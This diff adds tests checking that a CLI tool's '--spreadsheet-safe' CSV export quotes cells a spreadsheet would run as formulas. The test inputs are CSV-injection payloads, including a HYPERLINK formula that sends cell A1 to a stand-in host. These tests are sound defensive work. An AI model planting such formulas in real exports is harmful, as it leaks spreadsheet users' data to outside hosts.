@@ -67,3 +67,70 @@ def test_export_and_backup_write_a_file_whose_name_is_as_long_as_allowed(run, wr
     assert stat.S_IMODE((tmp_path / backup).stat().st_mode) == 0o660
     run.ok("backup", backup, "--force")
     assert set(os.listdir(tmp_path)) - before == {LONG_NAME, backup}  # no temp file left beside them
+
+
+# -- 7: `--spreadsheet-safe` CSV -----------------------------------------------------------------
+TEXT_WORKFLOW = """\
+workflow: notes
+labels: {type: text}
+queues:
+  q: {roles: [annotator]}
+on_create:
+  - {name: confident, when: prediction.confidence >= 0.9, do: accept}
+  - {name: "-default", do: {annotate: q}}
+"""
+NUMBER_WORKFLOW = """\
+workflow: scores
+labels: {type: number}
+queues:
+  q: {roles: [annotator]}
+on_create:
+  - {name: "@model", when: prediction.confidence >= 0.9, do: accept}
+  - {name: default, do: {annotate: q}}
+"""
+HYPERLINK = '=HYPERLINK("http://example.test/?leak="&A1,"open")'
+
+
+def exported_csv(run, *args: str) -> list[list[str]]:
+    """The cells ``export --format csv ARGS -o out.csv`` writes (read as written: a CR in a cell stays one)."""
+    run.ok("export", "--format", "csv", *args, "-o", "out.csv")
+    with open(run.folder / "out.csv", encoding="utf-8", newline="") as handle:
+        return list(csv.reader(handle))
+
+
+def test_spreadsheet_safe_csv_puts_a_quote_before_every_cell_a_spreadsheet_would_run(run, write_workflow, tmp_path):
+    run.ok("init")
+    run.ok("apply", write_workflow(TEXT_WORKFLOW, "notes.workflow.yaml"))
+    rows = [{"id": "=1+2", "category": "@SUM(A1)", "prediction": {"label": HYPERLINK, "confidence": 0.95}},
+            {"id": "+33 1 23", "category": "-x", "prediction": {"label": "\t=1", "confidence": 0.95}},
+            {"id": "-5", "prediction": {"label": "\r=2", "confidence": 0.95}},
+            {"id": "plain", "category": "a=b", "prediction": {"label": "fine, with a comma", "confidence": 0.95}}]
+    (tmp_path / "t.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
+    run.ok("ingest", "t.jsonl")
+
+    as_stored = {row[0]: row for row in exported_csv(run)[1:]}
+    assert [(as_stored[r["id"]][1], as_stored[r["id"]][5]) for r in rows] == [  # the default is unchanged
+        (HYPERLINK, "@SUM(A1)"), ("\t=1", "-x"), ("\r=2", ""), ("fine, with a comma", "a=b")]
+    safe = exported_csv(run, "--spreadsheet-safe")
+    assert safe[0] == HEADER.split(",")
+    assert [(row[0], row[1], row[5]) for row in sorted(safe[1:], key=lambda row: row[0].lstrip("'"))] == [
+        ("'+33 1 23", "'\t=1", "'-x"), ("'-5", "'\r=2", ""), ("'=1+2", "'" + HYPERLINK, "'@SUM(A1)"),
+        ("plain", "fine, with a comma", "a=b")]
+    assert all(row[2:5] == ["model", "confident", "2025-03-01T09:00:00+00:00"] for row in safe[1:])
+
+    to_stdout = run.ok("export", "--format", "csv", "--spreadsheet-safe").stdout  # standard output too
+    assert "'" + HYPERLINK.replace('"', '""') in to_stdout and "\n=1+2," not in to_stdout
+    refused = run("export", "--spreadsheet-safe")  # JSON Lines: no spreadsheet reads it as formulas
+    assert refused.returncode == 2 and "--spreadsheet-safe is for --format csv" in refused.stderr
+
+
+def test_spreadsheet_safe_csv_quotes_a_negative_number_label_and_a_rule_name(run, write_workflow, tmp_path):
+    run.ok("init")
+    run.ok("apply", write_workflow(NUMBER_WORKFLOW, "scores.workflow.yaml"))
+    rows = [{"id": "n1", "prediction": {"label": -3, "confidence": 0.95}},
+            {"id": "n2", "prediction": {"label": 4.5, "confidence": 0.95}}]
+    (tmp_path / "t.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
+    run.ok("ingest", "t.jsonl")
+    assert [row[:4] for row in exported_csv(run)[1:]] == [["n1", "-3", "model", "@model"], ["n2", "4.5", "model", "@model"]]
+    assert [row[:4] for row in exported_csv(run, "--spreadsheet-safe")[1:]] == [
+        ["n1", "'-3", "model", "'@model"], ["n2", "4.5", "model", "'@model"]]
